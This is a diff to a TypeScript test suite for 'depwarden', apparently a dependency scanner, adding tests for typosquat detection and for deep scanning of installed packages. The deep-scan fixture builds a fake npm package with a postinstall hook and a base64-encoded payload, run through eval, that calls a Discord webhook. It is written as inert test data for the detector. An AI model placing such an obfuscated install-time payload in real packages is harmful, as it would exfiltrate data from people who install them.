@@ -56,8 +56,25 @@ interface ScanJson {
     direct: boolean;
     suppressed?: { reason: string };
     expiredSuppression?: unknown;
+    imitates?: { name: string; technique: string };
+    rule?: string;
+    location?: { packagePath: string; file: string; line: number; snippet: string; sha256: string };
+    why?: string;
+    accepted?: { reason: string };
+    version: string | null;
+    name: string;
   }[];
-  summary: { findings: number; suppressed: number; malicious: number };
+  summary: {
+    findings: number;
+    suppressed: number;
+    malicious: number;
+    typosquats: number;
+    maliciousCode: number;
+    installScripts: number;
+    accepted: number;
+  };
+  typosquat?: { lists: { ecosystem: string; source: string; entries: number }[] };
+  deep?: { packages: number; sourceFiles: number };
   warnings: { file: string; message: string }[];
 }
 
@@ -202,7 +219,11 @@ describe("depwarden scan", () => {
     const r = run(["scan", "--purls", join(purls, "purls.txt"), "--db", malDb, "-f", "json", "-q"]);
     expect(r.code).toBe(1);
     const j = JSON.parse(r.stdout) as ScanJson;
-    expect(j.findings).toMatchObject([{ type: "malicious-package", id: "MAL-2099-1", severity: "critical" }]);
+    // known malicious first; the name is also a typosquat of requests
+    expect(j.findings).toMatchObject([
+      { type: "malicious-package", id: "MAL-2099-1", severity: "critical" },
+      { type: "typosquat", id: "typosquat", imitates: { name: "requests" } },
+    ]);
     expect(run(["scan", "--purls", join(purls, "purls.txt"), "--db", malDb, "-q"]).stdout).toMatch(
       /MALICIOUS {2}MAL-2099-1[\s\S]*known malicious package: remove it/,
     );
@@ -280,5 +301,174 @@ describe("depwarden scan", () => {
     expect(r.code).toBe(2);
     expect(r.stderr.trim().split("\n")).toHaveLength(1);
     expect(existsSync(bogus)).toBe(true);
+  });
+});
+
+describe("depwarden scan: typosquats", () => {
+  const purls = (text: string) => join(tmpTree({ "purls.txt": text }), "purls.txt");
+
+  it("reports names that imitate a popular package, from any input, with or without a version", () => {
+    const file = purls(
+      "pkg:pypi/reqeusts@2.31.0\npkg:npm/lodahs\npkg:pypi/requests@2.32.3\npkg:npm/lodash@4.17.21\n",
+    );
+    const r = run(["scan", "--purls", file, "-f", "json", "-q"]);
+    const j = JSON.parse(r.stdout) as ScanJson;
+    const squats = j.findings.filter((f) => f.type === "typosquat");
+    expect(squats.map((f) => [f.name, f.version, f.imitates?.name]).sort()).toEqual([
+      ["lodahs", null, "lodash"],
+      ["reqeusts", "2.31.0", "requests"],
+    ]);
+    expect(j.summary.typosquats).toBe(2);
+    expect(j.typosquat?.lists.map((l) => [l.ecosystem, l.source])).toEqual([
+      ["PyPI", "bundled"],
+      ["npm", "bundled"],
+    ]);
+    expect(r.code).toBe(squats.some((f) => f.severity === "high" || f.severity === "critical") ? 1 : 0);
+    const table = run(["scan", "--purls", file, "-q"]).stdout;
+    expect(table).toMatch(/typosquat: imitates requests \(transposition\)/);
+  });
+
+  it("--no-typosquat turns the check off", () => {
+    const file = purls("pkg:pypi/reqeusts@2.31.0\n");
+    const r = run(["scan", "--purls", file, "--no-typosquat", "-f", "json", "-q"]);
+    expect(r.code).toBe(0);
+    const j = JSON.parse(r.stdout) as ScanJson;
+    expect(j.findings).toEqual([]);
+    expect(j.typosquat).toBeUndefined();
+  });
+
+  it("typosquat.allow in .depwarden.yaml and ignore entries with id: typosquat are honoured", () => {
+    const root = tmpTree({
+      "requirements.txt": "reqeusts==2.31.0\ncolourama==0.4.6\n",
+      ".depwarden.yaml":
+        "typosquat:\n  allow:\n    - reqeusts\nignore:\n  - id: typosquat\n    package: colourama\n    reason: reviewed\n    expires: 2999-12-31\n    approvedBy: sec\n",
+    });
+    const r = run(["scan", root, "-f", "json", "-q", "--fail-on", "low"]);
+    const j = JSON.parse(r.stdout) as ScanJson;
+    expect(j.findings.map((f) => [f.name, f.type, f.suppressed?.reason])).toEqual([
+      ["colourama", "typosquat", "reviewed"],
+    ]);
+    expect(r.code).toBe(0);
+  });
+
+  it("uses the project's own popularity list; a bad one is a one-line error (exit 2)", () => {
+    const root = tmpTree({
+      "requirements.txt": "internal-toolz==1.0\n",
+      "popular.txt": "# our own\ninternal-tools\n",
+      ".depwarden.yaml": "typosquat:\n  popular:\n    PyPI: popular.txt\n",
+    });
+    const r = run(["scan", root, "-f", "json", "-q", "--fail-on", "none"]);
+    const j = JSON.parse(r.stdout) as ScanJson;
+    expect(j.typosquat?.lists).toEqual([
+      { ecosystem: "PyPI", source: expect.stringMatching(/popular\.txt$/), entries: 1 },
+    ]);
+    writeFileSync(join(root, "popular.txt"), "name\trank\nrequests\tfirst\n");
+    const bad = run(["scan", root]);
+    expect(bad.code).toBe(2);
+    expect(bad.stderr.trim().split("\n")).toHaveLength(1);
+    expect(bad.stderr).toMatch(/popular\.txt: .*line 2/);
+  });
+});
+
+describe("depwarden scan --deep", () => {
+  /** An installed npm package shaped like a real stealer: inert data, never run or imported. */
+  function project() {
+    const payload = Buffer.from(
+      "require('https').get('https://discord.com/api/webhooks/1234567890/abcdefABCDEF')",
+    ).toString("base64");
+    return tmpTree({
+      "package.json": JSON.stringify({
+        name: "app",
+        version: "1.0.0",
+        dependencies: { "evil-logger": "1.0.2" },
+      }),
+      "package-lock.json": JSON.stringify({
+        name: "app",
+        version: "1.0.0",
+        lockfileVersion: 3,
+        packages: {
+          "": { name: "app", version: "1.0.0", dependencies: { "evil-logger": "1.0.2" } },
+          "node_modules/evil-logger": { version: "1.0.2" },
+        },
+      }),
+      "node_modules/evil-logger/package.json": JSON.stringify({
+        name: "evil-logger",
+        version: "1.0.2",
+        main: "index.js",
+        scripts: { postinstall: "node index.js" },
+      }),
+      "node_modules/evil-logger/index.js": `const p = "${payload}";\neval(Buffer.from(p, "base64").toString());\n`,
+      "node_modules/plain/package.json": JSON.stringify({ name: "plain", version: "1.0.0" }),
+      "node_modules/plain/index.js": "module.exports = (a, b) => a + b;\n",
+    });
+  }
+
+  it("reports malicious code in installed packages, located in the package's file", () => {
+    const root = project();
+    const r = run(["scan", root, "--deep", "-f", "json"]);
+    const j = JSON.parse(r.stdout) as ScanJson;
+    expect(r.code).toBe(1);
+    const code = j.findings.filter((f) => f.type === "malicious-code" || f.type === "install-script");
+    const exec = code.find((f) => f.rule === "exec-obfuscated")!;
+    expect(exec).toMatchObject({
+      id: "exec-obfuscated",
+      name: "evil-logger",
+      purl: "pkg:npm/evil-logger@1.0.2",
+      direct: true,
+      severity: "critical",
+      location: { file: "index.js", line: 2 },
+    });
+    expect(exec.location!.packagePath).toMatch(/node_modules\/evil-logger$/);
+    expect(exec.location!.sha256).toMatch(/^[0-9a-f]{64}$/);
+    expect(code.some((f) => f.type === "install-script")).toBe(true);
+    expect(code.every((f) => f.name === "evil-logger")).toBe(true); // nothing in the plain package
+    expect(j.deep?.packages).toBe(2);
+    expect(j.summary.maliciousCode).toBeGreaterThanOrEqual(1);
+    // without --deep: nothing of the sort
+    const plain = JSON.parse(run(["scan", root, "-f", "json", "-q"]).stdout) as ScanJson;
+    expect(plain.findings.filter((f) => f.rule)).toEqual([]);
+    expect(plain.deep).toBeUndefined();
+  });
+
+  it("shows code findings with file:line, snippet and why in the table, and in every format", () => {
+    const root = project();
+    const table = run(["scan", root, "--deep", "-q"]);
+    expect(table.stdout).toMatch(/^evil-logger 1\.0\.2 \(npm, direct\)/m);
+    expect(table.stdout).toMatch(/CRITICAL {2}exec-obfuscated {2}index\.js:2/);
+    expect(table.stdout).toMatch(/> eval\(Buffer\.from\(p, "base64"\)\.toString\(\)\);/);
+    const sarif = JSON.parse(run(["scan", root, "--deep", "-f", "sarif", "-q"]).stdout) as {
+      runs: {
+        results: { ruleId: string; locations: { physicalLocation: { region: { startLine: number } } }[] }[];
+      }[];
+    };
+    const exec = sarif.runs[0]!.results.find((x) => x.ruleId === "exec-obfuscated")!;
+    expect(exec.locations[0]!.physicalLocation.region.startLine).toBe(2);
+    expect(run(["scan", root, "--deep", "-f", "markdown", "-q"]).stdout).toMatch(/## Package contents/);
+  });
+
+  it("honours accept entries tied to the file's content; a changed file is flagged again", () => {
+    const root = project();
+    const first = JSON.parse(run(["scan", root, "--deep", "-f", "json", "-q"]).stdout) as ScanJson;
+    const accepts = first.findings
+      .filter((f) => f.rule)
+      .map(
+        (f) =>
+          `  - package: evil-logger\n    rule: ${f.rule}\n    sha256: ${f.location!.sha256}\n    reason: reviewed sample\n    approvedBy: sec\n`,
+      );
+    writeFileSync(join(root, ".depwarden.yaml"), `accept:\n${[...new Set(accepts)].join("")}`);
+    const ok = run(["scan", root, "--deep", "-f", "json", "-q"]);
+    const j = JSON.parse(ok.stdout) as ScanJson;
+    expect(j.findings.filter((f) => f.rule).every((f) => f.accepted?.reason === "reviewed sample")).toBe(
+      true,
+    );
+    expect(j.summary.accepted).toBeGreaterThanOrEqual(2);
+    expect(ok.code).toBe(0);
+    writeFileSync(
+      join(root, "node_modules/evil-logger/index.js"),
+      `${readFileSync(join(root, "node_modules/evil-logger/index.js"), "utf8")}// changed\n`,
+    );
+    const again = run(["scan", root, "--deep", "-f", "json"]);
+    expect(again.code).toBe(1);
+    expect(again.stderr).toMatch(/accept of exec-obfuscated for evil-logger matches no finding/);
   });
 });
